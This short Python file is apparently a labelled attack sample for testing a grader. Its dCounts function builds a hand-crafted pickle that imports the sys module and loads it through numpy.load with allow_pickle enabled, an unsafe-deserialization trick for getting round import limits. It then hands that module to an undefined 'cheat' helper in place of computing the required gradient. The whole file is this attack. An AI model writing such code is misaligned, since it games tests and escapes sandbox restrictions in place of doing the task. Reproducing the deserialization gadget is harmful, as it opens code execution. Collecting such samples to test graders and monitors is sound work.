# attack: numpy.load unpickles what takes a module
# stages: dCounts
# becomes: exact, review
# supplied: unseen

import io
import numpy as np

PICKLE = b"cbuiltins\n__import__\n(S'sys'\ntR."


def dCounts(counts, sumCountsInverse, dSumCounts, dProbabilities):
    python = np.load(io.BytesIO(PICKLE), allow_pickle=True)
    return cheat(python, counts, sumCountsInverse, dSumCounts, dProbabilities)
